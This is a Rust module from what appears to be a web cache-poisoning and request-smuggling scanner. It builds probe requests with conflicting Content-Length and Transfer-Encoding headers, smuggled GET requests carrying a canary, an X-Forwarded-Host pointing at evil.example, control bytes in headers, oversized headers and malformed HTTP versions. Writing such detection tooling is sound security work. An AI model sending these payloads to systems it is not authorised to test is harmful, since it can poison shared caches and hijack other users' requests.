//! Messages that are framed so that one reads another length than the other, methods that are not GET, and heads that are too
//! large or hold what a head must not.

use super::{Maker, Route, Target};
use crate::client::browsing;

/// A body to GET, or what one may take for the next request: `{}` is the canary, `{len}` the length of what follows the head.
const FRAMED: [(&str, &str); 24] = [
    ("Content-Length: {len}\r\n", "x={}"),
    (
        "Content-Length: {len}\r\nContent-Type: application/x-www-form-urlencoded\r\n",
        "page={}",
    ),
    (
        "Content-Length: {len}\r\nContent-Type: application/json\r\n",
        "{\"page\":\"{}\"}",
    ),
    ("Transfer-Encoding: chunked\r\n", "12\r\ncanary:{}\r\n0\r\n\r\n"),
    (
        "Content-Length: {len}\r\nTransfer-Encoding: chunked\r\n",
        "0\r\n\r\nGET /{} HTTP/1.1\r\nX: y",
    ),
    (
        "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
        "5c\r\nGET /{} HTTP/1.1\r\nX: y\r\n0\r\n\r\n",
    ),
    (
        "Transfer-Encoding: chunked\r\nContent-Length: {len}\r\n",
        "0\r\n\r\nGET /{} HTTP/1.1\r\nX: y",
    ),
    (
        "Transfer-Encoding: xchunked\r\nContent-Length: {len}\r\n",
        "0\r\n\r\n{}",
    ),
    (
        "Transfer-Encoding: chunked, identity\r\nContent-Length: {len}\r\n",
        "0\r\n\r\n{}",
    ),
    ("Transfer-Encoding: identity\r\nContent-Length: {len}\r\n", "{}"),
    (
        "Transfer-Encoding : chunked\r\nContent-Length: {len}\r\n",
        "0\r\n\r\n{}",
    ),
    (
        " Transfer-Encoding: chunked\r\nContent-Length: {len}\r\n",
        "0\r\n\r\n{}",
    ),
    (
        "Transfer-Encoding:\tchunked\r\nContent-Length: {len}\r\n",
        "0\r\n\r\n{}",
    ),
    (
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nContent-Length: {len}\r\n",
        "0\r\n\r\n{}",
    ),
    (
        "X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: {len}\r\n",
        "0\r\n\r\n{}",
    ),
    (
        "Transfer_Encoding: chunked\r\nContent-Length: {len}\r\n",
        "0\r\n\r\nGET /{} HTTP/1.1\r\nX: y",
    ),
    (
        "Content-Length: {len}\r\nContent-Length: 0\r\n",
        "GET /{} HTTP/1.1\r\nX: y",
    ),
    (
        "Content-Length: 0\r\nContent-Length: {len}\r\n",
        "GET /{} HTTP/1.1\r\nX: y",
    ),
    ("Content-Length: +{len}\r\n", "GET /{} HTTP/1.1\r\nX: y"),
    ("Content-Length: 0x{len}\r\n", "GET /{} HTTP/1.1\r\nX: y"),
    ("Content-Length: {len}, {len}\r\n", "GET /{} HTTP/1.1\r\nX: y"),
    (
        "Content-Length: 0\r\n",
        "GET /{} HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    ),
    ("Expect: 100-continue\r\nContent-Length: {len}\r\n", "{}"),
    (
        "Connection: Content-Length\r\nContent-Length: {len}\r\n",
        "GET /{} HTTP/1.1\r\nX: y",
    ),
];

/// Instead of GET.
const METHODS: [&str; 14] = [
    "HEAD", "OPTIONS", "TRACE", "POST", "PUT", "PATCH", "DELETE", "PURGE", "BAN", "REFRESH", "get", "GETS",
    "PROPFIND", "SEARCH",
];

/// What a head must not hold.
const META: [&[u8]; 9] = [
    b"\x01",
    b"\x07",
    b"\x00",
    b"\x0b",
    b"\x0c",
    b"\x7f",
    b"\x1b[2J",
    b"\xff\xfe",
    b"\r",
];

pub(super) fn probes(maker: &mut Maker, route: Route) {
    for method in ["GET", "HEAD", "POST"] {
        for (headers, body) in FRAMED {
            let target = maker.target(route);
            let request = framed(&target, method, (headers, body));
            maker.poison(format!("message {method} with {headers:?}"), &target, request);
        }
    }
    for method in METHODS {
        let target = maker.target(route);
        let more = format!(
            "Content-Length: 0\r\nX-Forwarded-Host: {}.evil.example\r\n",
            target.canary
        );
        let request = browsing(&target.path, &more).replacen("GET", method, 1);
        maker.poison(format!("message by {method}"), &target, request);
    }
    // What nobody knows, the origin of a strict cache sees and may be careless with.
    let is_strict = route == Route::Strict;
    for meta in META.into_iter().filter(|meta| !is_strict || *meta != b"\xff\xfe") {
        let target = maker.target(route);
        let mut request = browsing(&target.path, "").into_bytes();
        request.truncate(request.len() - 2);
        request.extend_from_slice(b"X-Meta: ");
        request.extend_from_slice(meta);
        request.extend_from_slice(format!("{}\r\n\r\n", target.canary).as_bytes());
        maker.poison(format!("message with {meta:?}"), &target, request);
    }
    for (length, what) in [(9_000, "long"), (15_000, "longer"), (70_000, "too long")] {
        let target = maker.target(route);
        let name = if is_strict { "X-Forwarded-Long" } else { "X-Long" };
        let more = format!("{name}: {}{}\r\n", target.canary, "a".repeat(length));
        maker.poison(
            format!("message with a header that is {what}"),
            &target,
            browsing(&target.path, &more),
        );
        let target = maker.target(route);
        let path = format!("{}?{}{}", target.path, target.canary, "a".repeat(length));
        maker.poison(
            format!("message with a query that is {what}"),
            &target,
            browsing(&path, ""),
        );
    }
    for count in [40, 63, 200] {
        let target = maker.target(route);
        let more: String = (0..count)
            .map(|n| format!("X-N{n}: {}\r\n", target.canary))
            .collect();
        if route != Route::Strict {
            maker.poison(
                format!("message with {count} headers"),
                &target,
                browsing(&target.path, &more),
            );
        }
    }
    for version in [
        "HTTP/1.0",
        "HTTP/0.9",
        "HTTP/1.2",
        "HTTP/2.0",
        "HTTP/1.1 x",
        "http/1.1",
    ] {
        let target = maker.target(route);
        let more = format!(
            "X-Forwarded-Host: {}.evil.example\r\nConnection: close\r\n",
            target.canary
        );
        let request = browsing(&target.path, &more).replacen("HTTP/1.1", version, 1);
        maker.poison(format!("message of {version}"), &target, request);
    }
}

fn framed(target: &Target, method: &str, (headers, body): (&str, &str)) -> String {
    let body = body.replace("{}", &target.canary);
    let headers = headers.replace("{len}", &body.len().to_string());
    let head = browsing(&target.path, &headers).replacen("GET", method, 1);
    head + &body
}
